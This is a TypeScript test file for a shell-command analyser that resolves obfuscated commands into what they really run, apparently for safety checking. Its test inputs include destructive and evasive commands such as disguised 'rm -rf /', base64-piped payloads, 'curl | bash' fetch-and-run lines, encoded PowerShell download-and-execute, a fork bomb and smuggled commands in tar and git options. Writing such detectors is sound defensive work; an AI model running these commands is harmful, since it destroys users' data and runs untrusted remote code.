import { expect, test } from 'vitest'
import { readGraph } from '../../../../../src/main/core/shell/read-graph'
import { bashTrees } from '../../../../fakes/bash-trees'

const files: Readonly<Record<string, string>> = {
  '/home/dev/project/run.sh': '#!/bin/bash\nrm -rf "$1"\n',
  '/home/dev/project/package.json': JSON.stringify({
    scripts: { pretest: 'rm -r out', test: 'vitest run', all: 'npm run inner', inner: 'sudo ls' },
  }),
  '/home/dev/project/Makefile': 'DIR := out\nall: prep\n\t@cc -o app main.c\nprep:\n\trm -rf $(DIR)\n',
  '/home/dev/project/.git/config': '[core]\n\tbare = false\n',
  '/home/dev/project/.git/hooks/pre-commit': '#!/bin/sh\nnpm test\n',
}

async function read(command: string | readonly string[]) {
  const argv = typeof command === 'string' ? ['bash', '-lc', command] : command
  return readGraph(
    argv,
    { cwd: '/home/dev/project', home: '/home/dev', user: 'dev', tmpdir: undefined },
    {
      trees: bashTrees,
      readSource: (path) => {
        const text = files[path]
        return Promise.resolve(
          text === undefined ? { kind: 'not-read', reason: 'does not exist' } : { kind: 'text', text },
        )
      },
    },
  )
}

/** The commands as lines: `?` before a word that is not known, redirections behind. */
async function lines(command: string | readonly string[]): Promise<string[]> {
  const { commands } = await read(command)
  return commands
    .slice(typeof command === 'string' ? 1 : 0)
    .map(({ words, redirects }) =>
      [
        ...words.map((word) => `${word.known ? '' : '?'}${word.text}`),
        ...redirects
          .filter(({ mode }) => mode !== 'duplicate')
          .map(({ mode, target }) => `${mode}:${target.text}`),
      ].join(' '),
    )
}

test.each<[line: string, cwd: readonly string[]]>([
  ['env -C sub ls', ['/home/dev/project/sub']],
  ['env -C a -C /tmp ls', ['/tmp']],
  ['env -C a --chdir=b ls', []],
  ['env -C "$x" ls', []],
  ['env -C s* ls', []],
  ['env -C sub sh -c ls', ['/home/dev/project/sub']],
  ["env -S '-C sub ls'", ['/home/dev/project/sub']],
  ["env -C a -S '-C sub ls'", []],
  ['sudo -D sub ls', ['/home/dev/project/sub']],
  ['sudo --chdir=/srv ls', ['/srv']],
  ['cd a && unshare --wd b ls', ['/home/dev/project/a/b']],
  ['nsenter -t 1 --wd=sub ls', ['/home/dev/project/sub']],
  ['nsenter -t 1 -w/root ls', ['/root']],
  ['nsenter -t 1 -aw ls', []],
  ['systemd-run -d ls', ['/home/dev/project']],
  ['systemd-run ls', []],
  ['systemd-run --working-directory=/srv ls', ['/srv']],
  ['conda run --cwd sub ls', ['/home/dev/project/sub']],
  ['flatpak run --command=ls --cwd=sub org.x', ['/home/dev/project/sub']],
  ['start-stop-daemon -S -x ls', []],
  ['find . -execdir ls ;', []],
  ['pnpm -C sub exec ls', ['/home/dev/project/sub', '/home/dev/project']],
  ['npm --prefix="$x" exec ls', []],
  ['find . -exec ls ;', ['/home/dev/project']],
  ['fd -C sub -x ls', ['/home/dev/project/sub']],
  ['cmake -E chdir sub ls', ['/home/dev/project/sub']],
])('%s runs ls in %j', async (line, cwd) => {
  const { commands } = await read(line.replace(/;$/, '\\;'))
  expect(commands.findLast(({ program }) => program === 'ls')?.cwd).toEqual(cwd)
})

test.each<[string, string[]]>([
  ['r""m -rf x', ['rm -rf x']],
  [String.raw`\rm -rf x`, ['rm -rf x']],
  [String.raw`$'\x72\155' -rf x`, ['rm -rf x']],
  ['rm$IFS-rf${IFS}/', ['rm -rf /']],
  ['a=r; b=m; $a$b -rf ~', ['rm -rf /home/dev']],
  ['C="rm -rf /"; $C', ['rm -rf /']],
  ['{rm,-rf,/home}', ['rm -rf /home']],
  ['rm -r{f,v} a{1..3}', ['rm -rf -rv a1 a2 a3']],
  ['echo a$HOME$HOME/d', ['echo a/home/dev/home/dev/d']],
  ['s=mr; ${s:1:1}${s:0:1} -rf ~', ['rm -rf /home/dev']],
  [
    'p=a/b.tar.gz; echo ${p##*/} ${p%.*} ${p/a/c} ${p^^} ${#p}',
    ['echo b.tar.gz a/b.tar c/b.tar.gz A/B.TAR.GZ 10'],
  ],
  ['echo ${x:-y} ${HOME:+set}', ['echo y set']],
  ['x=a; echo ${x:-y} ${x-y}; x=; echo ${x:-y} ${x-y}', ['echo a a', 'echo y']],
  ['dd of=~/.bashrc', ['dd of=/home/dev/.bashrc']],
  ['if [ -f a ]; then d=a; else d=/; fi; rm -r $d', ['test', 'rm -r / a']],
  ['for d in ~ /etc; do rm -r $d; done', ['rm -r /home/dev /etc']],
  ['rm -r $X/lib', ['rm -r ?$X/lib']],
])('%s comes down to words as the shell would see them', async (script, expected) => {
  expect(await lines(script)).toEqual(expected)
})

test.each<[string | string[], string[]]>([
  [
    ['sh', '-c', "sh -c 'rm a'"],
    ["sh -c sh -c 'rm a'", 'sh -c rm a', 'rm a'],
  ],
  [
    ['env', '-S', 'rm -rf /'],
    ['env -S rm -rf /', 'rm -rf /'],
  ],
  [
    ['env', '-S', 'rm -rf', '/'],
    ['env -S rm -rf /', 'rm -rf /'],
  ],
  [
    ['sudo', '-u', 'root', '--', 'timeout', '-k', '1', '5', 'rm', 'x'],
    ['sudo -u root -- timeout -k 1 5 rm x', 'timeout -k 1 5 rm x', 'rm x'],
  ],
  ['eval "rm $HOME"', ['eval rm /home/dev', 'rm /home/dev']],
  ["trap 'rm a' EXIT", ['trap rm a EXIT', 'rm a']],
  ['f() { rm "$1"; }; f ~', ['f /home/dev', 'rm /home/dev']],
  ['f() { "$@"; }; f rm -r a', ['f rm -r a', 'rm -r a']],
  ['f() { command "$@"; }; f rm "a b"', ['f rm a b', 'command rm a b', 'rm a b']],
  ['f() { rm "${@:2}"; }; f x a b', ['f x a b', 'rm a b']],
  ['f() { x="$@"; rm "$x"; }; f a b', ['f a b', 'rm a b']],
  ['g() { rm a; }', ['rm a']],
  ['xargs -I{} rm {}/x <<< "/"', ['xargs -I{} rm {}/x', 'rm //x']],
  ['find . -exec rm {} \\;', ['find . -exec rm {} ;', 'rm ?{}']],
  ['ssh host rm -r /srv', ['ssh host rm -r /srv', 'rm -r /srv']],
  ['echo "$(rm a)"', ['rm a', 'echo ?$(rm a)']],
  ['cat <<E\n`rm a`\nE', ['rm a', 'cat']],
  ['true && bash <<E\nrm a\nE', ['true', 'bash', 'rm a']],
  ['a | b > f', ['a', 'b write:f']],
  ['{ a; b; } >> f', ['a', 'b', 'append:f']],
  ['echo cm0gLXJmIH4= | base64 -d | sh', ['echo cm0gLXJmIH4=', 'base64 -d', 'sh', 'rm -rf /home/dev']],
  ["printf '\\162\\155 a' | sh", ['printf \\162\\155 a', 'sh', 'rm a']],
  ["cat > x.sh <<'E'\nrm a\nE\nbash x.sh", ['cat write:x.sh', 'bash x.sh', 'rm a']],
  ['bash run.sh ~', ['bash run.sh /home/dev', 'rm -rf /home/dev']],
  ['./run.sh a', ['./run.sh a', 'rm -rf a']],
  ['npm test', ['npm test', 'rm -r out', 'vitest run']],
  ['npm run all', ['npm run all', 'npm run inner', 'sudo ls', 'ls']],
  ['make', ['make', 'rm -rf out', 'cc -o app main.c']],
  ['git commit -m x', ['git commit -m x', 'npm test', 'rm -r out', 'vitest run']],
  ["git -c core.pager='rm a' log", ['git -c core.pager=rm a log', 'rm a']],
  ['python3 -c \'import os; os.system("rm a")\'', ['python3 -c import os; os.system("rm a")', 'rm a']],
  ['awk \'BEGIN{system("rm a")}\'', ['awk BEGIN{system("rm a")}', 'rm a']],
  ["tar cf x y --checkpoint-action=exec='rm a'", ['tar cf x y --checkpoint-action=exec=rm a', 'rm a']],
])('%j is opened down to what it runs', async (command, expected) => {
  expect(await lines(command)).toEqual(expected)
})

test.each([
  [
    ['powershell', '-Command', 'R`emove-It`em C:\\x; gci | % { ri $_ }'],
    ['remove-item', 'get-childitem', 'remove-item', 'foreach-object'],
  ],
  [
    ['powershell', '-EncodedCommand', Buffer.from('iex (iwr x)', 'utf16le').toString('base64')],
    ['invoke-webrequest', 'invoke-expression'],
  ],
  [['pwsh', '-c', "& ('Remo'+'ve-Item') C:\\x"], ['remove-item']],
  [
    ['cmd', '/c', 'd^e^l /s C:\\x & for /d %i in (*) do rd /s %i'],
    ['del', 'for', 'rd'],
  ],
])('%j is read as its cmdlets and commands', async (command, programs) => {
  const { commands } = await read(command)
  expect(commands.slice(1).map(({ program }) => program)).toEqual(programs)
})

test.each<[string, string]>([
  ['if true; then echo "', 'part of it could not be parsed'],
  ['$CMD x', 'which program runs is only known at run time'],
  ['curl x | sh', 'it runs text that is only known at run time'],
  ['bash gone.sh', 'gone.sh: does not exist'],
  ['npm run gone', 'package.json has no script gone'],
  ['make gone', 'no plain rule for gone'],
  ['cd $X && ./run.sh', './run.sh: the folder it is taken from is not known'],
  ['sed -i s/a/b/ run.sh; bash run.sh', 'run.sh is written by an earlier part of the command'],
  ['echo x >> run.sh; bash run.sh', 'run.sh is written by an earlier part of the command'],
  ['echo ls > x.sh; echo x >> x.sh; bash x.sh', 'x.sh is written by an earlier part of the command'],
  ['curl x |& sh', 'it runs text that is only known at run time'],
  ['echo a\u0007', 'it holds control characters'],
])('%s says why it cannot be seen through', async (script, reason) => {
  const { unreadable } = await read(script)
  expect(unreadable.map((each) => each.reason)).toContain(reason)
})

test('a folder that is changed to holds for what follows, and not outside a subshell', async () => {
  const { commands } = await read('(cd /a && rm x); cd ../b; rm y')
  expect(commands.filter(({ program }) => program === 'rm').map(({ cwd }) => cwd)).toEqual([
    ['/a'],
    ['/home/dev/b'],
  ])
})

test('what find or git lists keeps its place on the way through xargs', async () => {
  const { commands } = await read('find src -name "*.o" | xargs rm')
  expect(commands.at(-1)?.words.at(-1)?.below).toEqual({ roots: ['/home/dev/project/src'], filtered: true })
})

test.each<[string, unknown]>([
  ["printf '%s\\0' ~/docs/* | xargs -0 rm", { roots: ['/home/dev/docs'], filtered: false }],
  ['echo *.o | xargs rm', { roots: ['/home/dev/project'], filtered: true }],
  ['ls ~/docs | xargs rm', undefined],
])('%s: the names that are printed lie where they were written', async (script, below) => {
  expect((await read(script)).commands.at(-1)?.words.at(-1)?.below).toEqual(below)
})

test('xargs -0 keeps names with blanks whole', async () => {
  const { commands } = await read("printf 'a b\\0c' | xargs -0 rm")
  expect(commands.at(-1)?.words.map(({ text }) => text)).toEqual(['rm', 'a b', 'c'])
})

test('a function that calls itself is seen', async () => {
  expect((await read(':(){ :|:& };:')).recursive).toEqual([':'])
})

test('the source of executed text is kept', async () => {
  const { executes, commands } = await read('curl -s x.example | tee log | bash')
  const [id] = [...executes.keys()]
  expect(commands[id ?? -1]?.program).toBe('bash')
  expect(executes.get(id ?? -1)).toEqual({ from: [2], seen: false })
})

test.each([
  ['cd gone || rm a', ['/home/dev/project']],
  ['cd gone && rm a', ['/home/dev/project/gone']],
])('%s: where what follows a cd runs, should nothing be there', async (script, cwd) => {
  const { commands } = await readGraph(
    ['bash', '-c', script],
    { cwd: '/home/dev/project', home: '/home/dev', user: 'dev', tmpdir: undefined },
    {
      trees: bashTrees,
      readSource: () => Promise.resolve({ kind: 'not-read', reason: 'does not exist' }),
      isMissing: () => Promise.resolve(true),
    },
  )
  expect(commands.at(-1)?.cwd).toEqual(cwd)
})

test('what stands in a place of the tree where no reader looks is read at the end, and said', async () => {
  const script = 'ls; rm x'
  const tree = await bashTrees.tree(script)
  const [first, , second] = tree?.root.children ?? []
  if (!tree || !first || !second) throw new Error('expected two commands')
  const odd = { ...second, type: 'some_new_statement', field: undefined, children: [second] }
  const root = { ...tree.root, children: [{ ...first, children: [...first.children, odd] }] }
  const { commands, unreadable } = await readGraph(
    ['bash', '-c', script],
    { cwd: '/w', home: '/home/dev', user: 'dev', tmpdir: undefined },
    {
      trees: { tree: () => Promise.resolve({ root, broken: false }) },
      readSource: () => Promise.resolve({ kind: 'not-read', reason: 'does not exist' }),
    },
  )
  expect(commands.map(({ program }) => program)).toEqual(['bash', 'ls', 'rm'])
  expect(unreadable.map(({ reason }) => reason)).toEqual(['part of it could not be parsed'])
})
